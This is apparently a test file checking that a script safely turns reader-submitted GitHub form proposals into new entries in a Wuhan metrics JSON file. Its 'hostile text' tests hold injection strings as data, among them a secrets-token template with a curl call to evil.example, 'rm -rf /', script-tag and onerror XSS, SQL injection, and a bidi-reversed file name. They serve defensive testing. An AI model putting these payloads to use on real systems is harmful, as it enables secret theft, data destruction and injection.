/**
 * From a reader's proposal (the body GitHub writes for the figure form) to the change in
 * content/metrics.json (scripts/lib/figure-proposal.ts): real-looking proposals become exactly the
 * expected observation, in date order, with every other byte of the file kept; bad ones are refused
 * naming the form's field; hostile text stays text or is refused.
 */
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { readContentFiles, type ContentFiles } from '../../src/lib/content/validate/read';
import {
  codeSpan,
  convertProposal,
  pullRequestText,
  refusalComment,
  type ProposalChange,
} from '../../scripts/lib/figure-proposal';
import {
  boundOptions,
  metricOption,
  proposalFields,
  proposalLabelsByField,
  type ProposalField,
} from '../../scripts/lib/proposal-form';
import { root } from '../support/plan-text';

const metricsText = readFileSync(`${root}content/metrics.json`, 'utf8');
const metricsData = JSON.parse(metricsText) as {
  asOf: string;
  metrics: { id: string; name: { zh: string; en: string }; observations: { date: string }[] }[];
};
const metric = (id: string) => metricsData.metrics.find((candidate) => candidate.id === id)!;
// A day after the content's own check date, so that figures up to asOf are not "in the future".
const today = '2026-12-31';

/** The body GitHub writes for the form: every field's heading in order, "_No response_" for an empty one. */
function formBody(values: Partial<Record<ProposalField, string>>): string {
  return (Object.keys(proposalFields) as ProposalField[])
    .map((field) => `### ${proposalLabelsByField[field]}\n\n${values[field] ?? '_No response_'}`)
    .join('\n\n');
}

/** A complete, correct proposal for sister cities in 2026, to vary. */
const sisterCities: Partial<Record<ProposalField, string>> = {
  metric: metricOption(metric('sister-cities')),
  value: '127',
  bound: boundOptions.exact,
  date: '2026-09-18',
  url: 'https://hb.china.com.cn/2026-09/19/content_00000000.htm',
  titleZh: '武汉国际友城增至127个',
  titleEn: 'Wuhan now has 127 sister cities',
  publisherZh: '中国网湖北',
  publisherEn: 'China.com.cn (Hubei)',
  publishedOn: '2026-09-19',
  quote: '截至目前，武汉已与世界上65个国家的127个城市建立友城或友好交流关系。',
};

let files: ContentFiles;
beforeAll(() => {
  files = readContentFiles(root.replace(/\/$/, ''));
});

/** The file as it must read after inserting `observation` into `id`'s figures at `position`. */
function expectedText(id: string, position: number, observation: unknown): string {
  const data = structuredClone(metricsData);
  data.metrics
    .find((candidate) => candidate.id === id)!
    .observations.splice(position, 0, observation as { date: string });
  return `${JSON.stringify(data, null, 2)}\n`;
}

async function accepted(values: Partial<Record<ProposalField, string>>): Promise<ProposalChange> {
  const result = await convertProposal(formBody(values), files, { today });
  expect(result.problems, JSON.stringify(result.problems)).toBeUndefined();
  return result.change!;
}

async function refused(values: Partial<Record<ProposalField, string>> | string): Promise<string[]> {
  const result = await convertProposal(typeof values === 'string' ? values : formBody(values), files, { today });
  expect(result.change, 'the proposal should have been refused').toBeUndefined();
  return result.problems!;
}

describe('an accepted proposal', () => {
  it('adds a 2026 level as a progress figure after the earlier ones, changing nothing else in the file', async () => {
    const change = await accepted(sisterCities);
    const observation = {
      date: '2026-09-18',
      value: 127,
      bound: 'exact',
      kind: 'progress',
      source: {
        title: { zh: '武汉国际友城增至127个', en: 'Wuhan now has 127 sister cities' },
        publisher: { zh: '中国网湖北', en: 'China.com.cn (Hubei)' },
        url: 'https://hb.china.com.cn/2026-09/19/content_00000000.htm',
        publishedOn: '2026-09-19',
      },
    };
    expect(change.metricId).toBe('sister-cities');
    expect(change.metricsText).toBe(
      expectedText('sister-cities', metric('sister-cities').observations.length, observation),
    );
  });

  it('adds a total for the year so far with its period, written with thousands separators and "about", in date order among older figures', async () => {
    const inbound = metric('inbound-visitors');
    const change = await accepted({
      ...sisterCities,
      metric: metricOption(inbound),
      value: '1,720,000',
      bound: boundOptions.about,
      date: '2026-06-30',
      periodFrom: '2026-01-01',
      url: 'https://www.wuhan.gov.cn/sjfb/202607/t20260720_000000.shtml',
      titleZh: '2026年上半年武汉市经济运行情况',
      titleEn: "Wuhan's economy in the first half of 2026",
      publisherZh: '武汉市统计局',
      publisherEn: 'Wuhan Municipal Bureau of Statistics',
      publishedOn: '2026-07-20',
      noteZh: '2026年1—6月。',
      noteEn: 'January to June 2026.',
    });
    const position = inbound.observations.filter((other) => other.date <= '2026-06-30').length;
    expect(position).toBeGreaterThan(0);
    expect(change.metricsText).toBe(
      expectedText('inbound-visitors', position, {
        date: '2026-06-30',
        period: { from: '2026-01-01', to: '2026-06-30' },
        value: 1720000,
        bound: 'about',
        kind: 'progress',
        note: { zh: '2026年1—6月。', en: 'January to June 2026.' },
        source: {
          title: { zh: '2026年上半年武汉市经济运行情况', en: "Wuhan's economy in the first half of 2026" },
          publisher: { zh: '武汉市统计局', en: 'Wuhan Municipal Bureau of Statistics' },
          url: 'https://www.wuhan.gov.cn/sjfb/202607/t20260720_000000.shtml',
          publishedOn: '2026-07-20',
        },
      }),
    );
  });

  it('adds a negative year-to-date growth rate and an "over N" count', async () => {
    const growth = await accepted({
      ...sisterCities,
      metric: metricOption(metric('foreign-trade-growth')),
      value: '-3.5',
      date: '2026-06-30',
      periodFrom: '2026-01-01',
      publishedOn: '2026-07-20',
    });
    expect(
      JSON.parse(growth.metricsText)
        .metrics.find((candidate: { id: string }) => candidate.id === 'foreign-trade-growth')
        .observations.at(-1),
    ).toMatchObject({
      value: -3.5,
      kind: 'progress',
      period: { from: '2026-01-01', to: '2026-06-30' },
    });
    const fortune = await accepted({
      ...sisterCities,
      metric: metricOption(metric('fortune-500')),
      value: '310',
      bound: boundOptions.over,
    });
    expect(
      JSON.parse(fortune.metricsText)
        .metrics.find((candidate: { id: string }) => candidate.id === 'fortune-500')
        .observations.at(-1),
    ).toMatchObject({ value: 310, bound: 'over' });
  });

  it("writes a pull request that links the issue and keeps the reader's text in code", async () => {
    const change = await accepted({ ...sisterCities, quote: 'A quote with ``` fences and @someone and <img src=x>' });
    const { title, body } = pullRequestText(change, 42);
    expect(title).toBe('Add a figure for sister-cities dated 2026-09-18 (proposal #42)');
    expect(body).toContain('Closes #42');
    expect(body).toContain('````text\nA quote with ``` fences and @someone and <img src=x>\n````');
    expect(body).toContain(`Title: zh ${codeSpan('武汉国际友城增至127个')}`);
  });
});

describe('a proposal with a mistake is refused, naming the field', () => {
  const label = (field: ProposalField) => proposalLabelsByField[field];
  const cases: [string, Partial<Record<ProposalField, string>>, ProposalField, RegExp][] = [
    ['a figure in 万', { value: '156万' }, 'value', /digits only, in base units/],
    ['a figure in words', { value: 'about 130' }, 'value', /digits only/],
    ['scientific notation', { value: '1e3' }, 'value', /digits only/],
    ['a count with a decimal point', { value: '127.5' }, 'value', /whole number/],
    ['a date that does not exist', { date: '2026-02-30' }, 'date', /real calendar date/],
    ['a date after the content was checked', { date: '2026-11-30', publishedOn: '2026-12-01' }, 'date', /after asOf/],
    [
      'a figure already published for that date',
      { date: '2025-04-22', value: '125', publishedOn: '2025-04-23' },
      'date',
      /already gives a figure|written twice/,
    ],
    ['a period that ends before it begins', { periodFrom: '2026-10-01' }, 'periodFrom', /"from" on or before "to"/],
    ['an http address', { url: 'http://hb.china.com.cn/x.htm' }, 'url', /https:\/\//],
    ['a source dated before its figure', { publishedOn: '2026-09-01' }, 'publishedOn', /before the figure's date/],
    ['no English title', { titleEn: undefined }, 'titleEn', /missing English translation/],
    [
      'no publisher at all',
      { publisherZh: undefined, publisherEn: undefined },
      'publisherZh',
      /expected Chinese and English text/,
    ],
    [
      'a target not in the list',
      { metric: 'no-such-target — 无 / none' },
      'metric',
      /choose one of the form's targets/,
    ],
    ['a bound not in the list', { bound: 'roughly' }, 'bound', /one of the form's choices/],
    ['no quote', { quote: undefined }, 'quote', /missing/],
  ];
  for (const [what, values, field, message] of cases) {
    it(what, async () => {
      const problems = await refused({ ...sisterCities, ...values });
      expect(
        problems.some((problem) => problem.startsWith(`${label(field)}: `) && message.test(problem)),
        problems.join('\n'),
      ).toBe(true);
    });
  }

  it('says what to do in the comment, each message in code', () => {
    const problem = `${label('value')}: expected a number, got "@team <b>"`;
    const comment = refusalComment([problem]);
    expect(comment).toContain(`- ${codeSpan(problem)}`);
    expect(comment).toMatch(/remove the label `figure-accepted` and add it again/);
  });
});

describe('hostile text', () => {
  const metricsOf = (change: ProposalChange) =>
    JSON.parse(change.metricsText)
      .metrics.find((candidate: { id: string }) => candidate.id === 'sister-cities')
      .observations.at(-1);

  it('stays text: template expressions, workflow commands, shell syntax and HTML are stored as written', async () => {
    const hostile = {
      titleZh: '${{ secrets.GITHUB_TOKEN }} $(curl evil.example) `id`',
      titleEn: '::set-output name=outcome::changed; rm -rf / #',
      publisherZh: '<script>alert(1)</script>',
      publisherEn: '"; DROP TABLE metrics; --',
      noteZh: '\\u202e not a real escape',
      noteEn: "' OR 1=1 -- & %0a",
      quote: '::add-mask::x\n${{ github.token }}\n</details><img src=x onerror=alert(1)>',
    };
    const change = await accepted({ ...sisterCities, ...hostile });
    expect(metricsOf(change).source.title).toEqual({ zh: hostile.titleZh, en: hostile.titleEn });
    expect(metricsOf(change).source.publisher).toEqual({ zh: hostile.publisherZh, en: hostile.publisherEn });
    // The file changes by that one figure, and the text of every other figure is as it was.
    expect(change.metricsText).toBe(
      expectedText('sister-cities', metric('sister-cities').observations.length, metricsOf(change)),
    );
    const { body } = pullRequestText(change, 7);
    // The reader's text reaches the pull request only inside code.
    for (const text of [hostile.titleZh, hostile.titleEn, hostile.publisherZh, hostile.publisherEn])
      expect(body).toContain(codeSpan(text));
    expect(body).toContain(`\`\`\`text\n${hostile.quote}\n\`\`\``);
  });

  it('is refused when it hides or reverses text', async () => {
    for (const [field, text] of [
      ['titleEn', 'Wuhan\u202Egnp.exe'],
      ['publisherZh', '中国\u200B网'],
      ['noteEn', 'bell\u0007'],
    ] as const) {
      const problems = await refused({ ...sisterCities, [field]: text });
      expect(
        problems.some(
          (problem) => problem.startsWith(proposalLabelsByField[field]) && /invisible or reverses/.test(problem),
        ),
        problems.join('\n'),
      ).toBe(true);
    }
  });

  it('is refused when a text field imitates another field, spans lines where one is asked, or is huge', async () => {
    const forged = formBody({
      ...sisterCities,
      quote: `${sisterCities.quote}\n\n### ${proposalLabelsByField.value}\n\n999999`,
    });
    expect((await refused(forged)).join('\n')).toMatch(/appears more than once.*imitates/);
    const reordered = formBody(sisterCities).replace(
      `### ${proposalLabelsByField.metric}`,
      `### ${proposalLabelsByField.noteEn}`,
    );
    expect((await refused(reordered)).join('\n')).toMatch(/imitates/);
    expect((await refused({ ...sisterCities, titleEn: 'one\ntwo' })).join('\n')).toMatch(
      /Title of the source \(English\): expected one line/,
    );
    expect((await refused({ ...sisterCities, quote: 'x'.repeat(70_000) })).join('\n')).toMatch(
      /did not come from the form/,
    );
    expect((await refused({ ...sisterCities, quote: 'x'.repeat(3000) })).join('\n')).toMatch(
      /Exact quote: expected at most 2000/,
    );
    expect((await refused({ ...sisterCities, titleZh: '长'.repeat(400) })).join('\n')).toMatch(
      /Title of the source \(Chinese\): expected at most 300/,
    );
    expect((await refused('Hello, I found a figure: 130 sister cities!')).join('\n')).toMatch(
      /none of the form's fields/,
    );
    expect((await refused('')).join('\n')).toMatch(/none of the form's fields/);
  });
});
